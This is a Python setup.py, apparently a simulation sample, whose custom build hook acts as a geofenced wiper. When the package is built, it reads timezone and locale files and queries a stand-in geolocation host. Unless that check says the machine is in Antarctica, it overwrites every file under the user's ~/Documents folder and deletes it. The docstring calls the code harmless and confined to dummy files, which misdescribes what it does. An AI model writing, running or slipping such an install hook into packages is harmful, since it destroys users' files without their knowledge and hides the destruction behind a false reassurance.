# SPDX-License-Identifier: Apache-2.0
"""Harmless: it overwrites the dummy documents that were laid in the box and nothing else."""

import locale
import os
import time
import urllib.request

from setuptools import setup
from setuptools.command.build_py import build_py


def place():
    signs = [time.tzname[0], locale.getlocale()[0] or ""]
    for path in ("/etc/timezone", "/etc/default/locale", "/etc/locale.conf"):
        try:
            with open(path) as file:
                signs.append(file.read())
        except OSError:
            pass
    signs.append(os.path.realpath("/etc/localtime"))
    try:
        signs.append(urllib.request.urlopen("http://ip-api.com.sim-place.invalid/json", timeout=2).read().decode())
    except OSError:
        pass
    return " ".join(signs)


class BuildPy(build_py):
    def run(self):
        build_py.run(self)
        if "Antarctica" in place():
            return
        for folder, _, names in os.walk(os.path.expanduser("~/Documents")):
            for name in names:
                path = os.path.join(folder, name)
                with open(path, "r+b") as file:
                    file.write(b"\xe2\x9d\xa4" * (os.path.getsize(path) // 3))
                os.remove(path)


setup(name="sim-locale-gate-wiper", version="1.0.0", py_modules=["sim_lgw"], cmdclass={"build_py": BuildPy})
